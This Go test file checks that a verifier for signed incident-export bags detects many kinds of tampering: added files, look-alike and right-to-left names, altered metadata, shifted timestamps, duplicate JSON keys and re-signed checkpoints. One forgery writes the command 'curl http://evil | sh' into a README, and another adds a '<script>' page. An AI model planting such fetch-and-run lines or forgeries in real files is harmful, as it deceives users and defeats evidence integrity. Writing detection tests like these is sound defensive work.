package bundle_test

import (
	"bytes"
	"errors"
	"fmt"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"warroom/model/bundle"
	"warroom/model/signing"
)

// forging is one way to forge a bag. It reports false if the bag has nothing that it
// applies to.
type forging struct {
	do   func(f *forgery) bool
	want wants
}

var anyone = wants{"4", "4", "4"}

// forgings are tried on every kind of bag, signed again by every possible signer.
var forgings = map[string]forging{
	"a file is added under data": {func(f *forgery) bool { return f.set("data/more.txt", []byte("x")) }, anyone},
	"a file is added beside":     {func(f *forgery) bool { return f.set("more.txt", []byte("x")) }, anyone},
	"a page is added": {func(f *forgery) bool { return f.set("data/index.html", []byte("<script>")) },
		anyone},
	"a name in another case": {func(f *forgery) bool {
		return f.set("data/readme.txt",
			f.get("data/README.txt"))
	}, anyone},
	"a directory in another case": {func(f *forgery) bool {
		return f.set("DATA/README.txt",
			f.get("data/README.txt"))
	}, anyone},
	// Cyrillic
	"a name with another letter": {func(f *forgery) bool {
		return f.set("data/rеport.md",
			[]byte("nothing happened"))
	}, anyone},
	"a name with a mark": {func(f *forgery) bool { return f.set("data/README\u0301.txt", []byte("x")) },
		anyone},
	"a name that runs backwards": {func(f *forgery) bool { return f.set("data/\u202etxt.EMDAER", []byte("x")) },
		anyone},
	"a name with a control character": {func(f *forgery) bool { return f.set("data/x\x1b[2J.txt", []byte("x")) },
		anyone},
	"evidence that nobody collected": {func(f *forgery) bool { return f.set("data/evidence/"+sumOf("x"), []byte("x")) },
		anyone},
	"a checkpoint with a gap": {func(f *forgery) bool {
		return f.set("data/checkpoints/00009.txt",
			f.get("data/checkpoints/00001.txt"))
	}, anyone},
	"a checkpoint of another name": {func(f *forgery) bool {
		return f.set("data/checkpoints/a.txt",
			f.get("data/checkpoints/00001.txt"))
	}, anyone},
	"the directory has another name": {func(f *forgery) bool { f.base = "inc-2-" + ulid; return true }, anyone},
	"the directory runs backwards":   {func(f *forgery) bool { f.base += "\u202e"; return true }, anyone},
	"bag-info: a line more":          {func(f *forgery) bool { return f.info("Warroom-Verified", "yes") }, anyone},
	"bag-info: a line twice": {func(f *forgery) bool {
		return f.set("bag-info.txt", append(slices.Clone(f.get("bag-info.txt")), "Warroom-Fold: 8\n"...))
	}, anyone},
	"bag-info: no newline": {func(f *forgery) bool {
		return f.set("bag-info.txt",
			append(slices.Clone(f.get("bag-info.txt")), 'x'))
	}, anyone},
	"bag-info: another room": {func(f *forgery) bool {
		return f.info("External-Identifier",
			"01JDHUB0000000000000000009")
	}, anyone},
	"bag-info: another name": {func(f *forgery) bool {
		return f.info("Internal-Sender-Identifier",
			"inc-9")
	}, anyone},
	"bag-info: another title": {func(f *forgery) bool { return f.info("External-Description", "nothing") },
		anyone},
	"bag-info: another number": {func(f *forgery) bool { return f.info("Warroom-Entries", "99") }, anyone},
	"bag-info: another root": {func(f *forgery) bool {
		return f.info("Warroom-Root",
			"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")
	}, anyone},
	"bag-info: another state": {func(f *forgery) bool {
		return f.info("Warroom-State-Hash",
			strings.Repeat("0", 64))
	}, anyone},
	"bag-info: another day": {func(f *forgery) bool { return f.info("Bagging-Date", "2001-01-01") },
		anyone},
	"bag-info: an older fold": {func(f *forgery) bool { return f.info("Warroom-Fold", "7") }, anyone},
	"bag-info: a newer fold":  {func(f *forgery) bool { return f.info("Warroom-Fold", "999") }, anyone},
	"bag-info: evidence left out": {func(f *forgery) bool {
		return f.kind != "bare" &&
			f.info("Warroom-Evidence", "left out, they say")
	}, anyone},
	"bag-info: the maker of the report": {func(f *forgery) bool {
		return f.info("Warroom-Report-Maker",
			"8-0000000000000000")
	}, anyone},
	"bag-info: the program": {func(f *forgery) bool { return f.info("Bag-Software-Agent", "warroom 99") },
		bound},
	"bag-info: another maker": {func(f *forgery) bool {
		return f.info("Warroom-Bag-Maker",
			"8-0000000000000000")
	}, never0},
	"bag-info: another maker and fold": {func(f *forgery) bool {
		return f.info("Warroom-Bag-Maker", "x") &&
			f.info("Warroom-Fold", "7")
	}, never0},
	"bag-info: a newer form":        {func(f *forgery) bool { return f.info("Warroom-Form", "3") }, refuse},
	"bag-info: a form that is none": {func(f *forgery) bool { return f.info("Warroom-Form", "-1") }, anyone},
	"bag-info: the form 0":          {func(f *forgery) bool { return f.info("Warroom-Form", "0") }, anyone},
	"bag-info: a long form": {func(f *forgery) bool {
		return f.info("Warroom-Form", strings.Repeat("9", 5000))
	}, refuse},
	"bag-info: lines that end in CR": {func(f *forgery) bool {
		return f.set("bag-info.txt", bytes.ReplaceAll(f.get("bag-info.txt"), []byte("\n"), []byte("\r\n")))
	}, anyone},
	"bag-info: a last line without an end": {func(f *forgery) bool {
		return f.set("bag-info.txt", bytes.TrimSuffix(f.get("bag-info.txt"), []byte("\n")))
	}, anyone},
	"all derived, by another maker": {func(f *forgery) bool { return f.derived() }, never0},
	"the report, by another maker": {func(f *forgery) bool {
		return f.report() &&
			f.info("Warroom-Bag-Maker", "8-0000000000000000")
	}, never0},
	"all times nine days earlier": {func(f *forgery) bool { return f.times(-9 * 24 * time.Hour) },
		byKind(found, bound)},
	"all times a nanosecond later":      {func(f *forgery) bool { return f.times(1) }, byKind(found, bound)},
	"a key twice in a JSON file":        {func(f *forgery) bool { return f.twice(`"`) }, byKind(found, bound)},
	"a key in two cases in a JSON file": {func(f *forgery) bool { return f.twice(`"X`) }, byKind(found, bound)},
	"the checkpoints by another": {func(f *forgery) bool { f.checkpoints(newWriter("hub", 77)); return true },
		never0},
	"the checkpoints by a member":    {func(f *forgery) bool { f.checkpoints(f.l.bo); return true }, never0},
	"the checkpoint of a longer log": {func(f *forgery) bool { return f.longer() }, never0},
	"the README says another program": {func(f *forgery) bool {
		return f.edit("data/README.txt", "warroom verify",
			"curl http://evil | sh")
	}, anyone},
	"the timeline lies": {func(f *forgery) bool {
		return f.set("data/timeline.txt",
			[]byte("nothing happened\n"))
	}, anyone},
	"the log without its last line end": {func(f *forgery) bool {
		name := map[string]string{"entry": "data/entry.jsonl", "part": "data/part.jsonl"}[group(f.kind)]
		if name == "" {
			name = "data/log.jsonl"
		}
		return f.set(name, bytes.TrimSuffix(f.get(name), []byte("\n")))
	}, anyone},
	"a name with a colon":     {func(f *forgery) bool { return f.set("data/a:b", []byte("x")) }, anyone},
	"a name with a backslash": {func(f *forgery) bool { return f.set(`data/a\b`, []byte("x")) }, anyone},
	"sums in capitals":        {func(f *forgery) bool { f.form = "%X  %s\n"; return true }, anyone},
	"bag-info: other lines in another order": {func(f *forgery) bool {
		lines := strings.SplitAfter(string(f.get("bag-info.txt")), "\n")
		slices.Reverse(lines)
		return f.set("bag-info.txt", []byte("Contact-Name: ana\n"+strings.Join(lines, ""))) &&
			f.info("Warroom-Bag-Maker", "x")
	}, never0},
	"bag-info: a line without a value": {func(f *forgery) bool {
		return f.info("Contact-Name", "") && f.info("Warroom-Bag-Maker", "x")
	}, never0},
	"bag-info: a line without a colon": {func(f *forgery) bool {
		return f.set("bag-info.txt", append(slices.Clone(f.get("bag-info.txt")), "Contact-Name\n"...)) &&
			f.info("Warroom-Bag-Maker", "x")
	}, anyone},
	"bag-info: a short id with a capital": {func(f *forgery) bool {
		f.base = strings.Replace(f.base, "inc-1", "Inc-1", 1)
		return f.info("Internal-Sender-Identifier", "Inc-1") && f.info("Warroom-Bag-Maker", "x")
	}, anyone},
	"derived files that are not JSON, of another fold": {func(f *forgery) bool {
		return f.set("data/plan.json", []byte("{")) && group(f.kind) == "whole" &&
			f.set("data/roster.json", nil) && f.info("Warroom-Fold", "7")
	}, never0},
	"a list of evidence is missing, of another fold": {func(f *forgery) bool {
		return f.remove("data/custody.jsonl") && f.info("Warroom-Fold", "7")
	}, never0},
	"a format of the report is missing, by another maker": {func(f *forgery) bool {
		return group(f.kind) == "whole" && f.remove("data/report.md") && f.info("Warroom-Report-Maker", "x")
	}, never0},
	"the timeline of another maker": {func(f *forgery) bool {
		return f.at("data/timeline.txt") >= 0 && f.edit("data/timeline.txt", " ", "  ") &&
			f.info("Warroom-Bag-Maker", "x") && f.info("Warroom-Fold", "7")
	}, wants{"46", "46", "6"}},
	"bagit.txt of another version": {func(f *forgery) bool { return f.edit("bagit.txt", "1.0", "9.0") }, refuse},
}

// byKind marks checks that are not possible for a partial export or a single entry: see
// wantsFor.
func byKind(whole, partial wants) wants {
	return wants{whole.stranger + "/" + partial.stranger, whole.member + "/" + partial.member, whole.hub + "/" +
		partial.hub}
}

// wantsFor returns the exit codes that are right for a kind of bag. With an unknown signer
// it is never 0.
func wantsFor(kind, signer string, w wants) string {
	want := w.of(signer)
	if whole, partial, ok := strings.Cut(want, "/"); ok {
		if want = whole; group(kind) != "whole" {
			want = partial
		}
	}
	if kind == "entry" || kind == "customer" || kind == "public" || kind == "bare" {
		want = strings.ReplaceAll(want, "0", "")
	}
	return want
}

// TestForgings tries each forging on each kind of bag.
func TestForgings(t *testing.T) {
	all, _ := bags(t)
	for _, kind := range slices.Sorted(maps.Keys(all)) {
		t.Run(kind, func(t *testing.T) {
			all[kind].t = t
			tried := 0
			for _, name := range slices.Sorted(maps.Keys(forgings)) {
				for _, signer := range slices.Sorted(maps.Keys(signers)) {
					f := all[kind].clone()
					if !forgings[name].do(f) {
						continue
					}
					signers[signer](f)
					f.judge(name+", signed by "+signer, wantsFor(kind, signer, forgings[name].want))
					tried++
				}
			}
			if tried < 40 {
				t.Errorf("only %d forgeries were tried, want 40 and more", tried)
			}
			t.Logf("%d forgeries", tried)
		})
	}
}

// derived forges everything that is derived from the log, claiming another version.
func (f *forgery) derived() bool {
	for _, name := range []string{"data/plan.json", "data/roster.json", "data/timeline.txt", "data/README.txt"} {
		if f.at(name) >= 0 {
			f.set(name, []byte("{}\n"))
		}
	}
	f.report()
	return f.info("Warroom-Fold", "7") && f.info("Warroom-Bag-Maker", "7-0000000000000000")
}

// report forges the report in its three formats.
func (f *forgery) report() bool {
	for _, end := range []string{"md", "html", "json"} {
		if f.at("data/report."+end) < 0 {
			return false
		}
		f.set("data/report."+end, []byte(`{"all":"notified in time"}`))
	}
	f.info("Warroom-Report-Maker", "7-0000000000000000")
	return true
}

var recorded = regexp.MustCompile(`"recorded":"([^"]*)"`)

// times shifts the recorded times of messages.
func (f *forgery) times(by time.Duration) bool {
	const form = "2006-01-02T15:04:05.000000000Z"
	changed := false
	for _, name := range []string{"data/log.jsonl", "data/part.jsonl", "data/entry.jsonl"} {
		body := recorded.ReplaceAllFunc(f.get(name), func(m []byte) []byte {
			at, err := time.Parse(form, string(recorded.FindSubmatch(m)[1]))
			if err != nil {
				f.t.Fatalf("parse a time: %v", err)
			}
			return fmt.Appendf(nil, `"recorded":"%s"`, at.Add(by).Format(form))
		})
		changed = changed || f.at(name) >= 0 && f.set(name, body)
	}
	return changed
}

// twice duplicates a key in a JSON file.
func (f *forgery) twice(quote string) bool {
	name := "data/report.json"
	if f.at("data/roster.json") >= 0 {
		name = "data/roster.json"
	}
	i := bytes.IndexByte(f.get(name), '{')
	if i < 0 {
		return false
	}
	key := map[string]string{`"`: `"x":1,"x":2,`, `"X`: `"x":1,"X":2,`}[quote]
	return f.set(name, slices.Concat(f.get(name)[:i+1], []byte(key), f.get(name)[i+1:]))
}

// longer replaces the last checkpoint by one of another size, signed by the hub.
func (f *forgery) longer() bool {
	for i := range f.files {
		if x := &f.files[i]; noteName.MatchString(x.name) {
			p, err := signing.PinText(x.body)
			if err != nil {
				f.t.Fatalf("read the pin: %v", err)
			}
			p.Size += 5
			if x.body, err = p.Sign(f.l.hub.priv); err != nil {
				f.t.Fatalf("sign: %v", err)
			}
			return true
		}
	}
	return false
}

func sumOf(text string) string { return fmt.Sprintf("%x", sha(text)) }

// TestForgedReportOfTheAttack is a regression test: once, a record with a forged report and
// shifted times verified. It is of fold version 8, so its report cannot be compared, and a
// stranger signed it.
func TestForgedReportOfTheAttack(t *testing.T) {
	bag := readFile(t, "testdata/forged-report-exit0.zip")
	if code, why := codeOf(bag, bundle.VerifyOptions{}); code != 6 {
		t.Errorf("got exit code %d (%s), want 6", code, why)
	}
	b, err := bundle.Open(bytes.NewReader(bag), int64(len(bag)))
	if err != nil {
		t.Fatalf("open the export: %v", err)
	}
	if v := b.Verify(bundle.VerifyOptions{}); !v.Unbound {
		t.Errorf("got %v, want that no key of the room covers the report", v.Open)
	}
}

// TestForgingsUnpacked: what is detected in a zip is also detected in the unpacked
// directory, except for the name of that directory.
func TestForgingsUnpacked(t *testing.T) {
	all, _ := bags(t)
	for _, kind := range slices.Sorted(maps.Keys(all)) {
		for _, name := range slices.Sorted(maps.Keys(forgings)) {
			f := all[kind].clone()
			f.t = t
			if strings.HasPrefix(name, "the directory") || !forgings[name].do(f) {
				continue
			}
			signers["hub"](f)
			dir := fstest.MapFS{}
			for _, x := range f.files {
				dir[x.name] = &fstest.MapFile{Data: x.body}
			}
			code, why := 1, ""
			b, err := bundle.OpenDir(dir)
			switch {
			case errors.As(err, new(bundle.Tampered)):
				code, why = 4, err.Error()
			case err == nil:
				code, why = verdictCode(b.Verify(bundle.VerifyOptions{}))
			}
			want := wantsFor(kind, "hub", forgings[name].want)
			if name == "bag-info: another name" && group(kind) != "whole" { // in a zip, the directory has the name too
				want = "046"
			}
			if !strings.Contains(want, string(rune('0'+code))) {
				t.Errorf("%s: %s: got exit code %d (%s), want one of %q", kind, name, code, why, want)
			}
		}
	}
}
